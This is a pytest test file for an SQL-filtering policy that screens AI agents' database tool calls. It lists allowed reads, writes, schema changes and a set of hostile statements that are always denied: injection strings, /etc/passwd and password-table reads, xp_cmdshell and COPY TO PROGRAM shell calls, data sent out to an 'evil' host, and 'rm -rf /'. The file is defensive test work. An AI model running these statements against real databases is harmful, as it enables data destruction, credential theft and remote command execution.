"""`sql_protection` lets through what is known to be harmless, in every dialect."""

from __future__ import annotations

import json
from collections import Counter
from time import process_time
from typing import Any

import msgspec
import pytest

from luthien_stream.policy import End, Event, Policy, ToolCall, run
from luthien_stream.testing.laws import laws
from luthien_stream.upstream.script import Answer, Call, Say, fragments, words
from tests.corpora import actions_of
from tests.unit.workers.configured import made

READS = [
    "SELECT a, b FROM t WHERE c = 'x; DROP TABLE y' ORDER BY a LIMIT 5, 10",
    "SELECT * FROM a JOIN b ON a.id = b.id GROUP BY x HAVING COUNT(*) > 3;",
    "SELECT 1; SELECT 2;",
    "(SELECT 1) UNION ALL (SELECT 2)",
    "WITH a AS (SELECT 1) SELECT * FROM a",
    "SELECT TOP 5 [a b] FROM [my table]",
    "SELECT `a` FROM `t`",
    "SELECT a::int, b->>'x' FROM t WHERE a ~ 'x' AND b = ANY($1)",
    "SELECT 'It\\'s', '#1', 'a--b', \"q\" FROM t",
    "SELECT 'how to drop a table, delete from it and sleep(5)'",
    "SELECT replace(name, 'a', 'b'), updated, deleted FROM t -- the update",
    "SHOW TABLES",
    "SHOW COLUMNS FROM t",
    "SHOW search_path",
    "DESCRIBE t",
    "DESC db.t col",
    "PRAGMA table_info(t)",
    "PRAGMA table_info('t');",
    "EXPLAIN SELECT * FROM t",
    "EXPLAIN QUERY PLAN SELECT * FROM t",
    "EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM t",
    "EXPLAIN ANALYZE SELECT * FROM t",
    "EXPLAIN DELETE FROM t",
    "SELECT a FROM t WHERE " + " AND ".join(["a IS NOT NULL AND NOT (b = -1)"] * 40),
    "PRAGMA foreign_keys",
    "EXEC sp_help 'dbo.t'",
    "SELECT a FROM t MINUS SELECT a FROM u",
    "VALUES (1), (2)",
    "USE shop",
    "BEGIN; SELECT 1; COMMIT",
    "SET NAMES utf8",
    "SET NOCOUNT ON; SELECT 1",
    "SELECT a INTO @v FROM t",
    "DECLARE @n INT = 5; SELECT TOP (@n) * FROM t",
    "\\d users",
    ".tables",
    "-- nothing",
    "LIST @stage",
    "PIVOT t ON a USING sum(b)",
    "SELECT string_agg(name, ', ' ORDER BY name) FROM u",
    "SELECT * FROM a LEFT JOIN LATERAL (SELECT * FROM b WHERE b.id = a.id LIMIT 1) l ON true",
    "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'",
    "SELECT relname, n_live_tup FROM pg_stat_user_tables",
    "EXPLAIN (ANALYZE, BUFFERS, FORMAT JSON) SELECT * FROM t WHERE id = 1",
    "SHOW CREATE TABLE users",
    "SHOW INDEX FROM users",
    "SHOW VARIABLES LIKE 'max_%'",
    "DESC users",
    "PRAGMA table_info(users)",
    "SELECT sql FROM sqlite_master WHERE type='table'",
    "SELECT IFNULL(a,0), CONCAT(a,b), DATE_FORMAT(d,'%Y-%m') FROM t",
    "SELECT * FROM t LIMIT 5, 10",
    "SELECT TOP 10 * FROM [dbo].[Users] WITH (NOLOCK) ORDER BY [Id] DESC",
    "SELECT name FROM sys.tables",
    "SELECT * FROM a CROSS APPLY (SELECT TOP 1 * FROM b WHERE b.id = a.id) x",
    "SELECT * FROM OPENJSON('[1,2]')",
    "DECLARE @d date = '2020-01-01'; SELECT * FROM t WHERE d > @d",
    "SELECT * EXCEPT (a, b) FROM `p.d.t`",
    "SELECT x FROM t, UNNEST(t.items) AS x WITH OFFSET o",
    "SELECT v:a.b[0]::int FROM t, LATERAL FLATTEN(input => t.v) f",
    "SELECT * FROM t AT (TIMESTAMP => '2024-01-01'::timestamp)",
    "SELECT OBJECT_CONSTRUCT('a', 1), IFF(a>1,'x','y'), DATEADD(day, 1, d) FROM t",
    "SELECT * FROM read_csv_auto('a.csv')",
    "FROM t SELECT a",
    "SUMMARIZE t",
    "SELECT count() FROM system.tables",
    "SELECT arrayJoin([1,2]), arrayMap(x -> x+1, a) FROM t LIMIT 1 BY k SETTINGS max_threads = 2",
    "SELECT SYSDATE FROM dual",
    "SELECT level, ename FROM emp START WITH mgr IS NULL CONNECT BY PRIOR empno = mgr",
    "SELECT a, LISTAGG(b, ',') WITHIN GROUP (ORDER BY b) FROM t GROUP BY a",
    "SELECT table_name FROM user_tables",
    "SELECT CASE WHEN a > 1 THEN 'x' ELSE 'y' END FROM t",
    "SELECT COALESCE(a, b, 0) FROM t",
    "SELECT a FROM t WHERE b IN (SELECT c FROM u WHERE EXISTS (SELECT 1 FROM v WHERE v.id = u.id))",
    "SELECT a FROM t -- DROP TABLE t",
    "(SELECT 1) UNION (SELECT 2)",
    "SELECT a, b, SUM(c) FROM t GROUP BY ROLLUP (a, b)",
    "SELECT a, LAG(b) OVER w FROM t WINDOW w AS (ORDER BY c)",
    "SELECT * FROM a NATURAL JOIN b",
    "SELECT REPLACE(name, 'a', 'b') FROM t",
    "SELECT last_insert_rowid()",
    "SELECT MATCH(a) AGAINST('x' IN BOOLEAN MODE) FROM t",
    "SELECT ST_Distance(a, b) FROM g",
    "SELECT name FROM t WHERE a = ? AND b = :b",
    "SELECT name FROM t WHERE a = %s",
    "SELECT json_extract(d, '$.a'), json_each.value FROM t, json_each(t.d)",
    "SELECT x.* FROM (VALUES (1,'a'),(2,'b')) AS x(id, n)",
    "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY x) FROM t",
    "SELECT current_user, session_user, current_schema()",
    "",
]
WRITES = [
    "INSERT INTO t (a) VALUES (1)",
    "INSERT INTO t VALUES ('It\\'s', 'so'), ('that\\'s', 'it')",
    "INSERT INTO t SELECT * FROM u",
    "REPLACE INTO t VALUES (1)",
    "UPDATE t SET a = 1 WHERE id = 3",
    "DELETE FROM t WHERE id IN (SELECT id FROM u)",
    "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN UPDATE SET a = 1",
    "WITH d AS (DELETE FROM t WHERE id = 3 RETURNING *) SELECT * FROM d",
    "SELECT * FROM t FOR UPDATE",
    "EXPLAIN ANALYZE DELETE FROM t WHERE id = 3",
    "SELECT 1; DELETE FROM t WHERE id = 3",
]
WHOLE = [
    "UPDATE t SET a = 1 WHERE EXISTS (SELECT 1)",
    "MERGE INTO t USING s ON 1=1 WHEN MATCHED THEN DELETE",
    "DELETE FROM t",
    "UPDATE t SET a = 1",
    "DELETE FROM t WHERE 1 = 1",
    "DELETE FROM t WHERE id = 3 OR 'a' = 'a'",
    "DELETE FROM t WHERE TRUE",
    "UPDATE t SET a = 1 WHERE id = id",
    "UPDATE t SET a = 1 WHERE (name LIKE '%')",
    "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
    "EXPLAIN ANALYZE UPDATE t SET a = 1",
]
SHAPES = [
    "DROP TABLE t",
    "DROP TABLE IF EXISTS a, b CASCADE",
    "TRUNCATE t",
    "ALTER TABLE t DROP COLUMN a",
    "CREATE TABLE t (a INT)",
    "CREATE OR REPLACE VIEW v AS SELECT 1",
    "SELECT * INTO backup FROM t",
    "RENAME TABLE a TO b",
    "DROP INDEX i",
    "SELECT 1; DROP TABLE t; SELECT 2",
    "SELECT 1;\n/**/DROP/**/TABLE t",
    "dRoP tAbLe t",
    "SELECT 1 /*!50000 ; DROP TABLE t */",
    "/*!DROP TABLE t*/",
    "SELECT '\\'; DROP TABLE t; --'",
    "SELECT 1 # ; DROP TABLE t",
    "SELECT 1--1; DROP TABLE t",
    "/* /* */ DROP TABLE t -- */",
    "SELECT $$ '; $$; DROP TABLE t -- '",
    "COMMIT; DROP SCHEMA public CASCADE",
]
NEVER = [
    "SELECT * FROM file('/etc/passwd')",
    "SYSTEM DROP DNS CACHE",
    "SELECT 1 /*!50000INTO OUTFILE '/tmp/x'*/",
    "SELECT utl_http.request('http://evil') FROM dual",
    "BACKUP DATABASE x TO DISK='x'",
    "INSTALL httpfs; LOAD httpfs",
    "PUT file:///etc/passwd @stage",
    "INSERT INTO FUNCTION url('http://evil') SELECT * FROM t",
    "DROP DATABASE shop",
    "SELECT * FROM t INTO OUTFILE '/var/www/x.php'",
    "SELECT '<?php' INTO DUMPFILE '/x'",
    "COPY t TO PROGRAM 'sh'",
    "COPY t FROM '/etc/passwd'",
    "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
    "CALL purge()",
    "EXEC xp_cmdshell 'dir'",
    "xp_cmdshell 'dir'",
    "EXEC('DROP TABLE t')",
    "EXECUTE IMMEDIATE 'DROP TABLE t'",
    "PREPARE s FROM 'DROP TABLE t'",
    "DO $$ BEGIN DELETE FROM t; END $$",
    "SET GLOBAL general_log = 'ON'",
    "SET ROLE postgres",
    "GRANT ALL ON t TO bob",
    "REVOKE ALL ON t FROM bob",
    "CREATE USER bob",
    "ALTER USER bob IDENTIFIED BY 'x'",
    "CREATE FUNCTION f() RETURNS INT AS 'x' LANGUAGE C",
    "CREATE EXTENSION plpython3u",
    "ATTACH DATABASE 'x.php' AS y",
    "PRAGMA writable_schema = ON",
    "PRAGMA journal_mode(delete)",
    "EXEC sp_help 'x'; EXEC xp_cmdshell 'dir'",
    "EXEC sp_help 'x' EXEC xp_cmdshell 'dir'",
    "KILL 5",
    "SELECT 1 SHUTDOWN",
    "SELECT a FROM t SHUTDOWN",
    "SELECT 1 DELETE FROM t",
    "REPAIR TABLE t",
    "WAITFOR DELAY '0:0:5'",
    "IF 1 = 1 DROP TABLE t",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT pg_catalog.pg_sleep(10)",
    "SELECT \"pg_ls_dir\"('/')",
    "SELECT load_file('/etc/passwd')",
    "SELECT IF(1=1, SLEEP(5), 0)",
    "SELECT BENCHMARK(1000000, MD5('a'))",
    "SELECT * FROM dblink('x', 'DROP TABLE t') AS r(a int)",
    "SELECT * FROM OPENROWSET('a', 'b', 'c')",
    "SELECT load_extension('x')",
    "SELECT dbms_pipe.receive_message('x', 5) FROM dual",
    "REPLACE INTO t SELECT sleep(5)",
    "SELECT authentication_string FROM mysql.user",
    "SELECT * FROM pg_shadow",
    "1' OR '1'='1",
    "'; DROP TABLE users; --",
    "admin'--",
    "1 UNION SELECT password FROM users",
    "\\! rm -rf /",
    ".shell rm x",
    "SELECT a FROM t) SELECT b FROM u",
    "SELECT FROM WHERE",
    "oops",
]


def is_allowed(policy: Policy, sql: str, tool: str = "run_sql", argument: str = "query") -> bool:
    came: list[Event] = [ToolCall("1", tool, json.dumps({argument: sql})), End("tool_calls")]
    return bool(run(policy, came).tool_calls)


@pytest.mark.parametrize("sql", READS)
def test_reads_are_allowed(sql: str) -> None:
    """By every level."""
    assert is_allowed(made("sql_protection", allow="read"), sql)
    assert is_allowed(made("sql_protection"), sql)


@pytest.mark.parametrize("sql", WRITES)
def test_rows_are_changed_with_write(sql: str) -> None:
    """Which is the default."""
    assert not is_allowed(made("sql_protection", allow="read"), sql)
    assert is_allowed(made("sql_protection"), sql)


@pytest.mark.parametrize("sql", WHOLE)
def test_not_all_rows_at_once(sql: str) -> None:
    """Unless the configuration says so."""
    assert not is_allowed(made("sql_protection"), sql)
    assert is_allowed(made("sql_protection", where_required=False), sql)


@pytest.mark.parametrize("sql", SHAPES)
def test_tables_are_changed_with_ddl(sql: str) -> None:
    """However it hides: what one dialect takes for a comment or a quotation, another runs."""
    assert not is_allowed(made("sql_protection", allow="read"), sql)
    assert not is_allowed(made("sql_protection"), sql)
    assert is_allowed(made("sql_protection", allow="ddl"), sql)


@pytest.mark.parametrize("sql", NEVER)
def test_nothing_else_is_ever_allowed(sql: str) -> None:
    """Programs, files, users, procedures, waiting, and what cannot be read."""
    assert not is_allowed(made("sql_protection", allow="ddl", where_required=False), sql)


def test_configuration() -> None:
    """Tables, functions and dialect; what cannot be configured is refused by name."""
    policy = made("sql_protection", deny_tables=["salar*", "hr.*"], deny_functions=["version"], dialect="postgres")
    assert not is_allowed(policy, "SELECT * FROM Salaries")
    assert not is_allowed(policy, "SELECT * FROM a JOIN hr.people p ON true")
    assert not is_allowed(policy, "SELECT version()")
    assert is_allowed(policy, "SELECT $$ '; DROP TABLE t; $$")
    assert is_allowed(policy, "SELECT * FROM pg_shadow")
    with pytest.raises(msgspec.ValidationError, match=r"`dialect` must be one of .*postgres"):
        made("sql_protection", dialect="postgress")


def test_tools() -> None:
    """Known tools, unknown ones by their arguments, configured ones."""
    assert not is_allowed(made("sql_protection"), "DROP TABLE t", "mcp__shop__query", "sql")
    assert not is_allowed(made("sql_protection"), "DROP TABLE t", "ask", "query")
    assert is_allowed(made("sql_protection"), "drop the table idea", "ask", "query")
    assert is_allowed(made("sql_protection"), "How many orders were late?", "query")
    assert is_allowed(made("sql_protection"), "DROP TABLE t", "note", "text")
    assert not is_allowed(made("sql_protection", arguments={"no*": "text"}), "DROP TABLE t", "note", "text")


def test_broken_arguments_are_denied() -> None:
    """What cannot be read is not let through."""
    came: list[Event] = [ToolCall("1", "run_sql", '{"query": "DROP TABLE t'), End("tool_calls")]
    assert not run(made("sql_protection"), came).tool_calls


def test_the_reason_has_no_literals() -> None:
    """The log names what was done to what; a password in a statement stays out of it."""
    sql = "SET PASSWORD FOR bob = 'hunter2'; SELECT pg_read_file('hunter2')"
    (verdict,) = run(made("sql_protection"), [ToolCall("1", "run_sql", json.dumps({"sql": sql}))]).verdicts
    assert (verdict.kind, verdict.shown) == ("deny", "This SQL statement is not allowed here.")
    assert "hunter2" not in verdict.reason
    assert verdict.reason


@pytest.mark.parametrize("step", [pytest.param(1, marks=pytest.mark.long), 6])
def test_recorded_agents(step: int) -> None:
    """At least 97 % of what an agent asked for is allowed; the rest changes a database or is no SQL."""
    asked = Counter(actions_of("agent_sql_actions.jsonl"))
    assert asked.total() == 5867
    different = list(asked)[::step]
    calls: list[Event] = [ToolCall(str(n), "run_sql", json.dumps({"query": sql})) for n, sql in enumerate(different)]
    policy = made("sql_protection", allow="read")
    verdicts = [verdict for at in range(0, len(calls), 500) for verdict in run(policy, calls[at : at + 500]).verdicts]
    denied = {different[int(verdict.about)]: verdict.reason for verdict in verdicts if verdict.kind == "deny"}
    assert sum(asked[sql] for sql in denied) <= 0.03 * sum(asked[sql] for sql in different)
    for sql, reason in denied.items():
        changes = sql.casefold().strip().startswith(("alter", "update"))
        assert reason.endswith("goes beyond read") == changes, sql
        assert changes or reason == "no SQL that can be read", sql


HOSTILE: dict[str, str] = {
    "brackets": "SELECT " + "(" * 60_000,
    "not": "SELECT " + "NOT " * 16_000 + "1",
    "minus": "SELECT " + "- " * 30_000 + "1",
    "unions": "SELECT 1 " + "UNION SELECT 1 " * 4_000,
    "comments": "/*" * 32_000,
    "square": "[" * 64_000,
    "quotes": "'" * 64_001,
    "backslashes": "\\" * 64_000,
    "dollars": "$a" * 32_000,
    "statements": "SELECT 1;" * 7_000,
    "cases": "SELECT " + "CASE WHEN 1 THEN " * 3_000,
    "large": "SELECT 1" + " " * 1_000_000,
}


@pytest.mark.parametrize("sql", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_statements_take_bounded_time(sql: str) -> None:
    """And end in one verdict."""
    began = process_time()
    came: list[Event] = [ToolCall("1", "run_sql", json.dumps({"query": sql})), End("tool_calls")]
    transcript = run(made("sql_protection"), came)
    assert [verdict.kind for verdict in transcript.verdicts] in (["deny"], ["allow"])
    assert not transcript.failures
    assert process_time() - began < 5


@pytest.mark.parametrize("config", [{}, {"allow": "read", "dialect": "mysql"}])
def test_laws(config: dict[str, Any]) -> None:
    """It holds to the laws of all policies."""
    sql = ('{"query":"SELECT a FROM t"}', '{"query":"DROP TABLE t"}', '{"query":"DELETE FROM t WHERE id = 3"}')
    calls = tuple(Call(f"call_{n}", "run_sql", fragments(one)) for n, one in enumerate(sql))
    laws(made("sql_protection", **config))
    laws(made("sql_protection", **config), [Answer("m", (Say(words("I look.")), *calls), "tool_calls")])
